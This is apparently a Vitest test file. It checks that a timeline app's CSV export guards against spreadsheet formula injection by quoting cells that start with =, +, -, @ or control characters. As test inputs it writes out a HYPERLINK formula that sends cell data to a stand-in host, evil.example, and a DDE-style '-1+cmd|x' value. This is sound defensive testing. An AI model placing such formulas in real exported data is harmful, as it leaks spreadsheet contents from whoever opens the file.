/**
 * Issue 16, finding 7: a cell that starts with = + - @ (or a tab or carriage return) is a
 * formula to a spreadsheet: `=HYPERLINK("https://evil.example/?leak="&A1, "x")` sends the
 * sheet's cells away when clicked. The CSV export prefixes such cells with ' (as OWASP
 * advises) and the import takes the prefix off again, so every value round-trips. Date columns
 * keep a date or number that starts with "-" (a BCE year like -0043-03-15, a negative number)
 * as written: digits and date punctuation cannot call anything.
 */
import { csvParseRows } from 'd3-dsv';
import { describe, expect, it } from 'vitest';
import { DATELINE_COLUMNS, fromDatelineCsv, toDatelineCsv } from '../../../src/import/dateline-csv';
import type { TimelineInput } from '../../../src/format/types';

const HOSTILE = '=HYPERLINK("https://evil.example/?leak="&A1, "click")';

function timeline(event: Record<string, unknown>): TimelineInput {
  return {
    version: 1,
    title: 'T',
    people: { a: { name: 'A' } },
    events: [{ id: 'e', date: '2020', title: 'x', ...event } as TimelineInput['events'][number]],
  };
}

/** The exported cell of the event row in `column`. */
function cell(csv: string, column: (typeof DATELINE_COLUMNS)[number], kind = 'event'): string {
  const rows = csvParseRows(csv);
  const index = rows[0]!.indexOf(column);
  return rows.find((r) => r[0] === kind)![index]!;
}

describe('CSV export against formula injection', () => {
  it.each([
    ['title', HOSTILE],
    ['title', '+1 (555) 0100'],
    ['title', '-5 degrees'],
    ['title', '@SUM(A1:A9)'],
    ['place', "'=already quoted"],
  ] as const)('%s %j is written with a leading quote and reads back as it was', (field, value) => {
    const input = timeline({ [field]: value });
    const csv = toDatelineCsv(input);
    expect(cell(csv, field)).toBe(`'${value}`);
    expect(fromDatelineCsv(csv).value.events[0]?.[field]).toBe(value);
  });

  it.each(['\t=1+1', '\r=1+1'])('a cell starting with %j is guarded too', (summary) => {
    // (The import trims cells, so leading whitespace never comes back: that is not new.)
    expect(cell(toDatelineCsv(timeline({ summary })), 'text')).toBe(`'${summary}`);
  });

  it('guards quote text, names and sources too', () => {
    const input: TimelineInput = {
      ...timeline({ quotes: [{ text: HOSTILE, by: 'a', source: { outlet: '@evil' } }] }),
      people: { a: { name: '=A', role: '-r' } },
    };
    const csv = toDatelineCsv(input);
    expect(cell(csv, 'text', 'quote')).toBe(`'${HOSTILE}`);
    expect(cell(csv, 'outlet', 'quote')).toBe("'@evil");
    expect(cell(csv, 'name', 'person')).toBe("'=A");
    const back = fromDatelineCsv(csv).value;
    expect(back.events[0]?.quotes?.[0]).toEqual({
      text: HOSTILE,
      by: 'a',
      source: { outlet: '@evil' },
    });
    expect(back.people).toEqual({ a: { name: '=A', role: '-r' } });
  });

  it.each(['-0043-03-15', '-0043', '-5', '-12.5'])(
    'a date column keeps %j as written, and it round-trips',
    (date) => {
      const csv = toDatelineCsv(timeline({ date }));
      expect(cell(csv, 'date')).toBe(date);
      expect(fromDatelineCsv(csv).value.events[0]?.date).toBe(date);
    },
  );

  it('a date column still guards what is not a date or a number', () => {
    const csv = toDatelineCsv(timeline({ date: '=1+1', end: '-1+cmd|x' }));
    expect(cell(csv, 'date')).toBe("'=1+1");
    expect(cell(csv, 'end')).toBe("'-1+cmd|x");
    expect(fromDatelineCsv(csv).value.events[0]).toMatchObject({ date: '=1+1', end: '-1+cmd|x' });
  });

  it('leaves ordinary text alone', () => {
    const csv = toDatelineCsv(timeline({ title: "it's fine", place: 'a-b' }));
    expect(cell(csv, 'title')).toBe("it's fine");
    expect(cell(csv, 'place')).toBe('a-b');
  });
});
